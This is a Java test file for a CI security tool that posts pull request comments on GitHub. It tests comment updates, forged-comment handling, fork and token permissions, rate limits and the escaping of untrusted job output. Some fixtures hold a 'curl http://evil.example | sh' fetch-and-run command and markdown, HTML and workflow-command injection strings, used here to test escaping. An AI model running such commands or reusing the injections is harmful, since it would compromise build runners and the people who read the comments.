package eyas.github.api;

import static com.github.tomakehurst.wiremock.client.WireMock.aResponse;
import static org.assertj.core.api.Assertions.assertThat;

import com.github.tomakehurst.wiremock.http.Fault;
import eyas.ci.outcome.OutcomeSummary;
import eyas.github.api.FakeGitHub.Comment;
import eyas.github.api.JobComment.Note;
import eyas.github.runner.GitHubEnvironment;
import eyas.http.RetryPolicy;
import eyas.testsupport.ParsedMarkdown;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Comments on the pull request of a server that responds like GitHub: correctly, wrongly, late, and not at all. */
final class JobCommentTest {
    private static final String HEAD = "ab".repeat(20);
    private static final RetryPolicy PATIENT = new RetryPolicy(
            Duration.ofMinutes(5), Duration.ofSeconds(30), 4, Duration.ofSeconds(1), Duration.ofSeconds(20), 1 << 20);

    @TempDir
    private Path directory;

    private FakeGitHub github = FakeGitHub.open();
    private final FakeClock time = new FakeClock();
    private final Map<String, String> variables = new HashMap<>();

    @AfterEach
    void stop() {
        github.close();
    }

    private void replace(FakeGitHub other) {
        github.close();
        github = other;
    }

    private JobComment job(String run, String head) throws IOException {
        return job(run, """
                {"action":"synchronize","number":7,"sender":{"login":"octocat"},"repository":{"id":1},
                "pull_request":{"number":7,"user":{"login":"octocat"},"head":{"sha":"%s","repo":{"id":1}},
                "base":{"repo":{"id":1,"private":false}}}}""".formatted(head), "pull_request");
    }

    private JobComment job(String run, String payload, String event) throws IOException {
        Path file = directory.resolve("event.json");
        Files.writeString(file, payload);
        Map<String, String> all = new HashMap<>(Map.of(
                "GITHUB_API_URL",
                github.url(),
                "GITHUB_REPOSITORY",
                "example/app",
                "GITHUB_EVENT_NAME",
                event,
                "GITHUB_EVENT_PATH",
                file.toString(),
                "GITHUB_RUN_ID",
                run,
                "INPUT_GITHUB-TOKEN",
                "ghs_job"));
        all.putAll(variables);
        return new JobComment(new GitHubEnvironment(all), PATIENT, time);
    }

    private Note post(OutcomeSummary digest, CommentMode mode) throws IOException {
        return job("100", HEAD).ofThisJob(digest, mode);
    }

    @Test
    void singleCommentIsUpdatedOnlyOnChanges() throws Exception {
        assertThat(post(TestDigests.bad("build", "curl evil"), CommentMode.ALWAYS))
                .isEqualTo(new Note(false, "the comment of pull request 7 is up to date"));
        assertThat(github.comments()).singleElement().extracting(Comment::body).isEqualTo("""
                        <!-- eyas:comment v1 -->
                        ## 🔴 Eyas: look at 1 of 1 job

                        Of commit abababababababababababababababababababab.

                        <!-- eyas:job key=%s rank=1 run=100 head=abababababababababababababababababababab hash=%s -->
                        🔴 **build**: Critical: Runner Memory Read. [The run](https://github.com/example/app/actions/runs/100)

                        | priority | rule | times | first seen in | what |
                        | --- | --- | ---: | --- | --- |
                        | Critical | Runner Memory Read | 1 | `step __tj, tj-actions/changed-files@v45, \
                        postinstall of @evil/left` | `curl evil` |

                        <!-- /eyas:job -->

                        """.formatted(
                        field(github.comments().getFirst(), "key"),
                        field(github.comments().getFirst(), "hash")));
        assertThat(post(TestDigests.bad("build", "curl evil"), CommentMode.ALWAYS))
                .isEqualTo(new Note(false, "the comment of pull request 7 is unchanged"));
        assertThat(github.mutations()).containsExactly("addComment");
        post(TestDigests.bad("build", "curl worse"), CommentMode.ALWAYS);
        assertThat(github.mutations()).containsExactly("addComment", "updateIssueComment");
        assertThat(github.comments()).singleElement().asString().contains("curl worse");
        assertThat(github.requests())
                .allSatisfy(request -> assertThat(request.getRequest().getUrl()).isEqualTo("/graphql"));
    }

    private static String field(Comment comment, String name) {
        return comment.body().replaceAll("(?s).* " + name + "=(\\w+).*", "$1");
    }

    @Test
    void onAlertModeCreatesNoCommentWithoutAlert() throws Exception {
        assertThat(post(TestDigests.clean("build"), CommentMode.ON_ALERT))
                .isEqualTo(new Note(false, "no comment: no findings (comment: on-alert)"));
        assertThat(post(TestDigests.clean("build"), CommentMode.NEVER).text())
                .isEqualTo("no comment: none is requested");
        assertThat(github.comments()).isEmpty();
        post(TestDigests.bad("build", "x"), CommentMode.ON_ALERT);
        post(TestDigests.clean("build"), CommentMode.ON_ALERT);
        assertThat(github.comments())
                .singleElement()
                .asString()
                .contains("✅ Eyas: no findings in 1 job", "✅ **build**: No findings.");
    }

    @Test
    void findsOwnCommentOnLastPageAndIgnoresForgedOne() throws Exception {
        post(TestDigests.bad("build", "old"), CommentMode.ALWAYS);
        Comment ours = github.comments().getFirst();
        replace(FakeGitHub.open());
        github.comment("mallory", false, ours.body());
        github.comment("other-app", true, ours.body());
        for (int i = 0; i < 120; i++) {
            github.comment("another-user", false, "comment " + i);
        }
        github.comment(FakeGitHub.ACTIONS, true, ours.body());
        github.comment(FakeGitHub.ACTIONS, true, "another action's comment");
        post(TestDigests.bad("build", "new"), CommentMode.ALWAYS);
        assertThat(github.mutations()).containsExactly("updateIssueComment");
        assertThat(github.comments()).hasSize(124);
        assertThat(github.comments().subList(0, 2))
                .allSatisfy(forged -> assertThat(forged.body()).isEqualTo(ours.body()));
        assertThat(github.comments().get(122).body()).contains("| `new` |");
    }

    @Test
    void userTokenFindsUsersComment() throws Exception {
        variables.put("INPUT_GITHUB-TOKEN", "ghp_person");
        post(TestDigests.clean("build"), CommentMode.ALWAYS);
        post(TestDigests.bad("build", "x"), CommentMode.ALWAYS);
        assertThat(github.mutations()).containsExactly("addComment", "updateIssueComment");
        assertThat(github.comments().getFirst().author()).isEqualTo("octocat");
    }

    @Test
    void newCommitReplacesOldOneAndLateJobIsIgnored() throws Exception {
        post(TestDigests.bad("build", "x"), CommentMode.ALWAYS);
        post(TestDigests.bad("test", "y"), CommentMode.ALWAYS);
        String next = "cd".repeat(20);
        job("200", next).ofThisJob(TestDigests.clean("build"), CommentMode.ALWAYS);
        assertThat(github.comments())
                .singleElement()
                .asString()
                .contains("no findings in 1 job", next)
                .doesNotContain("**test**", HEAD);
        assertThat(post(TestDigests.bad("test", "y"), CommentMode.ALWAYS))
                .isEqualTo(new Note(false, "no comment: pull request 7 has a newer commit"));
        assertThat(github.comments().getFirst().body()).doesNotContain("**test**");
    }

    @Test
    void codeOfJobIsEscaped() throws Exception {
        String evil = "curl `http://evil.example` | sh </code> @torvalds #1 [x](http://evil.example) **b** \n\n| a |\n";
        post(TestDigests.bad("build", evil), CommentMode.ALWAYS);
        String body = github.comments().getFirst().body();
        assertThat(CommentText.parse(body).sections()).hasSize(1);
        ParsedMarkdown parsed = ParsedMarkdown.of(body);
        assertThat(parsed.links()).allMatch(link -> link.startsWith("https://github.com/example/app/actions/runs/"));
        assertThat(parsed.html()).allMatch(html -> html.startsWith("<!-- "));
        assertThat(parsed.emphasis()).containsExactly("build");
        assertThat(parsed.code()).contains(evil.replace("\n", "\\n"));
        assertThat(parsed.rows()).hasSize(2).allSatisfy(row -> assertThat(row).hasSize(5));
    }

    @Test
    void textOfJobIsEscaped() throws Exception {
        String evil = "<!-- /eyas:job --> </code> @torvalds #1 [x](http://evil.example) ![](https://e/p.png) `|`\n"
                + "::error::x\u202e GH-12 a@b.example";
        post(
                TestDigests.bad("**build** @octo-org/team GH-7 https://evil.example www.evil.example", evil),
                CommentMode.ALWAYS);
        String body = github.comments().getFirst().body();
        assertThat(CommentText.parse(body).sections()).hasSize(1);
        assertThat(body)
                .contains(
                        "🔴 **&#42;&#42;build&#42;&#42; &#64;&#8203;octo-org/team GH-&#8203;7 https&#58;&#8203;//evil.example"
                                + " www&#46;&#8203;evil.example**: ")
                .contains("<code>&lt;&#33;-- /eyas&#58;job --&gt; &lt;/code&gt; &#64;&#8203;torvalds &#35;1"
                        + " &#91;x&#93;&#40;http&#58;&#8203;//evil.example&#41;");
        assertThat(body.replaceAll(
                        "<!-- [^<>]* -->|</?code>|`step [^`]*`|\\[The run]\\(https://github\\.com/[^)]*\\)", ""))
                .doesNotContain("<", "@", "https://", "::", "\u202e", "](", "`");
    }

    @Test
    void readOnlyTokenGivesNotice() throws Exception {
        replace(new FakeGitHub(true, Map.of()));
        assertThat(post(TestDigests.bad("build", "x"), CommentMode.ALWAYS))
                .isEqualTo(new Note(
                        true,
                        "no comment: the token lacks the permission (GitHub: Resource not accessible by integration). Give the"
                                + " job the permission pull-requests: write"));
        String dependabot = """
                {"sender":{"login":"dependabot[bot]"},"pull_request":{"number":7,"user":{"login":"dependabot[bot]"},
                "head":{"sha":"%s","repo":{"id":1}},"base":{"repo":{"id":1}}}}""".formatted(HEAD);
        assertThat(job("100", dependabot, "pull_request").ofThisJob(TestDigests.clean("b"), CommentMode.ALWAYS))
                .extracting(Note::text)
                .asString()
                .contains("Runs for Dependabot are read-only by default")
                .contains("see docs/how-to/fork-pull-requests.md for a second workflow that comments for it");
    }

    @Test
    void publicForkSendsNoRequest() throws Exception {
        String fork = """
                {"sender":{"login":"m"},"pull_request":{"number":7,"user":{"login":"m"},"head":{"sha":"%s","repo":%s},
                "base":{"repo":{"id":1,"private":%s}}}}""";
        String notice = "no comment: the pull request is from a fork, so the token of this run is read-only;"
                + " see docs/how-to/fork-pull-requests.md for a second workflow that comments for it";
        for (String repository : List.of("{\"id\":2}", "null")) {
            assertThat(job("100", fork.formatted(HEAD, repository, "false"), "pull_request")
                            .ofThisJob(TestDigests.bad("b", "x"), CommentMode.ALWAYS))
                    .isEqualTo(new Note(true, notice));
        }
        assertThat(github.requests()).isEmpty();
        // A private repository may let forks write, and pull_request_target has the repository's own token.
        assertThat(job("100", fork.formatted(HEAD, "{\"id\":2}", "true"), "pull_request")
                        .ofThisJob(TestDigests.bad("b", "x"), CommentMode.ALWAYS)
                        .loud())
                .isFalse();
        assertThat(job("100", fork.formatted(HEAD, "{\"id\":2}", "false"), "pull_request_target")
                        .ofThisJob(TestDigests.bad("b", "x"), CommentMode.ALWAYS)
                        .loud())
                .isFalse();
        assertThat(github.comments()).hasSize(1);
    }

    @Test
    void runsWithoutPullRequestHaveNoComment() throws Exception {
        assertThat(job("100", "{\"ref\":\"refs/heads/main\"}", "push")
                        .ofThisJob(TestDigests.bad("b", "x"), CommentMode.ALWAYS))
                .isEqualTo(new Note(false, "no comment: this run does not belong to a pull request"));
        assertThat(job("100", "no json", "pull_request")
                        .ofThisJob(TestDigests.bad("b", "x"), CommentMode.ALWAYS)
                        .text())
                .startsWith("no comment: cannot read the event: ");
        assertThat(github.requests()).isEmpty();
    }

    @Test
    void missingAndInvalidTokensAreReported() throws Exception {
        variables.put("INPUT_GITHUB-TOKEN", "");
        assertThat(post(TestDigests.clean("b"), CommentMode.ALWAYS))
                .isEqualTo(new Note(true, "no comment: missing token; set the input github-token"));
        variables.put("INPUT_GITHUB-TOKEN", "ghs_unknown");
        assertThat(post(TestDigests.clean("b"), CommentMode.ALWAYS))
                .isEqualTo(new Note(true, "no comment: GitHub answers 401: Bad credentials"));
        variables.put("GITHUB_API_URL", "http://ghes.example/api/v3");
        assertThat(post(TestDigests.clean("b"), CommentMode.ALWAYS).text())
                .startsWith("no comment: GITHUB_API_URL: 'http://ghes.example/api/v3' is not https");
    }

    @Test
    void usesAddressesOfEnterpriseServer() throws Exception {
        variables.put("GITHUB_API_URL", github.url() + "/api/v3/");
        variables.put("GITHUB_SERVER_URL", "https://ghes.example/");
        post(TestDigests.clean("b"), CommentMode.ALWAYS);
        assertThat(github.requests())
                .allSatisfy(request -> assertThat(request.getRequest().getUrl()).isEqualTo("/api/graphql"));
        assertThat(github.comments().getFirst().body())
                .contains("[The run](https://ghes.example/example/app/actions/runs/100)");
    }

    @Test
    void waitsForShortRateLimits() throws Exception {
        Instant now = Instant.now();
        github.answerOnce(aResponse()
                .withStatus(403)
                .withHeader("x-ratelimit-limit", "1000")
                .withHeader("x-ratelimit-remaining", "0")
                .withHeader("x-ratelimit-reset", Long.toString(now.getEpochSecond() + 4))
                .withBody("{\"message\":\"API rate limit exceeded for installation ID 1.\"}"));
        github.answerOnce(aResponse()
                .withStatus(403)
                .withHeader("Retry-After", "7")
                .withBody("{\"message\":\"You have exceeded a secondary rate limit.\"}"));
        assertThat(post(TestDigests.clean("b"), CommentMode.ALWAYS).loud()).isFalse();
        assertThat(github.comments()).hasSize(1);
        assertThat(time.pauses().get(0)).isBetween(Duration.ofSeconds(1), Duration.ofSeconds(6));
        assertThat(time.pauses().get(1)).isEqualTo(Duration.ofSeconds(7));
    }

    @Test
    void reportsLongRateLimitsWithoutWaiting() throws Exception {
        github.answerOnce(aResponse()
                .withStatus(429)
                .withHeader("x-ratelimit-remaining", "0")
                .withHeader("x-ratelimit-reset", "99999999999")
                .withBody("{\"message\":\"API rate limit exceeded\"}"));
        assertThat(post(TestDigests.clean("b"), CommentMode.ALWAYS).text())
                .startsWith("no comment: GitHub answers 429; to try again needs ");
        github.answerOnce(
                aResponse().withStatus(403).withBody("{\"message\":\"You have exceeded a secondary rate limit.\"}"));
        assertThat(post(TestDigests.clean("b"), CommentMode.ALWAYS))
                .isEqualTo(new Note(true, "no comment: GitHub answers 403; to try again needs 60 s"));
        github.answerOnce(aResponse()
                .withHeader("x-ratelimit-remaining", "0")
                .withHeader("x-ratelimit-reset", "99999999999")
                .withBody("{\"errors\":[{\"type\":\"RATE_LIMITED\",\"message\":\"API rate limit exceeded\"}]}"));
        assertThat(post(TestDigests.clean("b"), CommentMode.ALWAYS).text())
                .startsWith("no comment: GitHub answers 200; to try");
        assertThat(time.pauses()).isEmpty();
    }

    @Test
    void retriesServerErrors() throws Exception {
        github.answerOnce(aResponse().withStatus(502).withBody("<html>"));
        github.answerOnce(aResponse().withFault(Fault.CONNECTION_RESET_BY_PEER));
        assertThat(post(TestDigests.clean("b"), CommentMode.ALWAYS).loud()).isFalse();
        assertThat(github.comments()).hasSize(1);
        for (int i = 0; i < 4; i++) {
            github.answerOnce(aResponse().withStatus(500));
        }
        assertThat(post(TestDigests.bad("b", "x"), CommentMode.ALWAYS))
                .isEqualTo(new Note(true, "no comment: GitHub answers 500, 4 times"));
    }

    @Test
    void slowResponsesTimeOut() throws Exception {
        RetryPolicy hasty = new RetryPolicy(
                Duration.ofMinutes(5), Duration.ofSeconds(3), 1, Duration.ofSeconds(1), Duration.ofSeconds(1), 1 << 20);
        github.answerOnce(aResponse().withFixedDelay(60_000).withBody("{}"));
        JobComment job = job("100", HEAD);
        assertThat(new JobComment(job.environment(), hasty, time).ofThisJob(TestDigests.clean("b"), CommentMode.ALWAYS))
                .extracting(Note::text)
                .asString()
                .startsWith("no comment: GitHub: no ")
                .contains("answer within 3 s");
    }

    @Test
    void rejectsInvalidResponses() throws Exception {
        github.answerOnce(aResponse().withBody("<html>"));
        assertThat(post(TestDigests.clean("b"), CommentMode.ALWAYS).text())
                .startsWith("no comment: GitHub: cannot read the response: JSON is malformed");
        github.answerOnce(aResponse().withBody("{\"data\":{\"repository\":null}}"));
        assertThat(post(TestDigests.clean("b"), CommentMode.ALWAYS).text())
                .contains("GitHub: cannot find pull request 7");
        github.answerOnce(aResponse().withBody("{\"data\":\"" + "x".repeat(1 << 20) + "\"}"));
        assertThat(post(TestDigests.clean("b"), CommentMode.ALWAYS).text())
                .isEqualTo("no comment: GitHub: the answer is longer than 1024 KiB");
        assertThat(github.comments()).isEmpty();
    }
}
